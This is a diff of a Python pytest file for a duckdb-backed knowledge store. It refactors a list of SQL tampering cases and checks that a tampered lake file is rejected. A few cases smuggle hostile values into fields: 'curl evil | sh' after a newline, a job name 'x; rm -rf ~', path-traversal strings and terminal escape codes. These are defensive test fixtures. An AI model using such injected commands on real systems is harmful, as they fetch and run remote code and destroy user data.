@@ -6,6 +6,7 @@ from pathlib import Path
 import duckdb
 import msgspec
 import pytest
+from cases import few
 from kb_samples import ended, job, measured, started, write
 
 from kb import door, forget, journal, similar, store
@@ -93,40 +94,40 @@ def changed(lake_folder: Path, tmp_path: Path, sql: str) -> Path:
     return other.parent
 
 
-@pytest.mark.parametrize(
-    "sql",
-    [
-        "UPDATE t SET session = '/tmp/victim'",
-        "UPDATE t SET session = '../../victim'",
-        "UPDATE t SET session = ''",
-        "UPDATE t SET session = NULL",
-        "UPDATE t SET name = 'tp1' || chr(10) || 'curl evil | sh' WHERE kind = 'measurement'",
-        "UPDATE t SET step_time_s = 0.001 WHERE kind = 'measurement'",
-        "UPDATE t SET status = 'oom' WHERE kind = 'measurement'",
-        "UPDATE t SET status = 'splendid' WHERE kind = 'measurement'",
-        "UPDATE t SET knobs = '{\"tp\":2}' WHERE kind = 'measurement'",
-        "UPDATE t SET configuration_id = '0123456789abcdef' WHERE kind = 'measurement'",
-        "UPDATE t SET job_id = '0123456789abcdef'",
-        "UPDATE t SET job_model = replace(job_model, '\"layers\":2', '\"layers\":3') WHERE kind = 'job'",
-        "UPDATE t SET job_model = replace(job_model, '\"heads\":2', '\"heads\":0') WHERE kind = 'job'",
-        "UPDATE t SET job_name = 'x; rm -rf ~' WHERE kind = 'job'",
-        "UPDATE t SET job_target = '../..' WHERE kind = 'job'",
-        "UPDATE t SET job_family = '../../elsewhere' WHERE kind = 'job'",
-        "UPDATE t SET period = 'another' WHERE kind = 'measurement'",
-        "UPDATE t SET per_rank = '{\"power_w\":[1.0]}' WHERE kind = 'measurement'",
-        "UPDATE t SET rank_devices = '[\"h:gpu:0\"]' WHERE kind = 'measurement'",
-        "UPDATE t SET conditions = '{\"throttled\":1.0}' WHERE kind = 'measurement'",
-        "UPDATE t SET conditions = '[1]' WHERE kind = 'measurement'",
-        "UPDATE t SET fidelity = 'short' WHERE kind = 'measurement'",
-        "ALTER TABLE t ALTER COLUMN fidelity TYPE INTEGER USING 7",
-        "UPDATE t SET host = 'h' || chr(27) || '[2J' WHERE kind = 'session'",
-        "UPDATE t SET job = 'null' WHERE kind = 'session'",
-        "ALTER TABLE t DROP COLUMN knobs",
-        "ALTER TABLE t DROP COLUMN kind",
-        "ALTER TABLE t ALTER COLUMN step_time_s TYPE VARCHAR USING 'fast'",
-        "UPDATE t SET environment = '{\"torch\":\"2' || chr(92) || 'u001b[2J\"}' WHERE kind = 'measurement'",
-    ],
-)
+_TAMPERED = [
+    "UPDATE t SET session = '/tmp/victim'",
+    "UPDATE t SET session = '../../victim'",
+    "UPDATE t SET session = ''",
+    "UPDATE t SET session = NULL",
+    "UPDATE t SET name = 'tp1' || chr(10) || 'curl evil | sh' WHERE kind = 'measurement'",
+    "UPDATE t SET step_time_s = 0.001 WHERE kind = 'measurement'",
+    "UPDATE t SET status = 'oom' WHERE kind = 'measurement'",
+    "UPDATE t SET status = 'splendid' WHERE kind = 'measurement'",
+    "UPDATE t SET knobs = '{\"tp\":2}' WHERE kind = 'measurement'",
+    "UPDATE t SET configuration_id = '0123456789abcdef' WHERE kind = 'measurement'",
+    "UPDATE t SET job_id = '0123456789abcdef'",
+    "UPDATE t SET job_model = replace(job_model, '\"layers\":2', '\"layers\":3') WHERE kind = 'job'",
+    "UPDATE t SET job_model = replace(job_model, '\"heads\":2', '\"heads\":0') WHERE kind = 'job'",
+    "UPDATE t SET job_name = 'x; rm -rf ~' WHERE kind = 'job'",
+    "UPDATE t SET job_target = '../..' WHERE kind = 'job'",
+    "UPDATE t SET job_family = '../../elsewhere' WHERE kind = 'job'",
+    "UPDATE t SET period = 'another' WHERE kind = 'measurement'",
+    "UPDATE t SET per_rank = '{\"power_w\":[1.0]}' WHERE kind = 'measurement'",
+    "UPDATE t SET rank_devices = '[\"h:gpu:0\"]' WHERE kind = 'measurement'",
+    "UPDATE t SET conditions = '{\"throttled\":1.0}' WHERE kind = 'measurement'",
+    "UPDATE t SET conditions = '[1]' WHERE kind = 'measurement'",
+    "UPDATE t SET fidelity = 'short' WHERE kind = 'measurement'",
+    "ALTER TABLE t ALTER COLUMN fidelity TYPE INTEGER USING 7",
+    "UPDATE t SET host = 'h' || chr(27) || '[2J' WHERE kind = 'session'",
+    "UPDATE t SET job = 'null' WHERE kind = 'session'",
+    "ALTER TABLE t DROP COLUMN knobs",
+    "ALTER TABLE t DROP COLUMN kind",
+    "ALTER TABLE t ALTER COLUMN step_time_s TYPE VARCHAR USING 'fast'",
+    "UPDATE t SET environment = '{\"torch\":\"2' || chr(92) || 'u001b[2J\"}' WHERE kind = 'measurement'",
+]
+
+
+@pytest.mark.parametrize("sql", few(_TAMPERED, 8))
 def test_a_file_of_a_lake_that_was_tampered_with_stays_outside(kb: Path, tmp_path: Path, sql: str):
     bob = tmp_path / "bob" / "kb.duckdb"
     lake.push(kb, tmp_path / "lake")
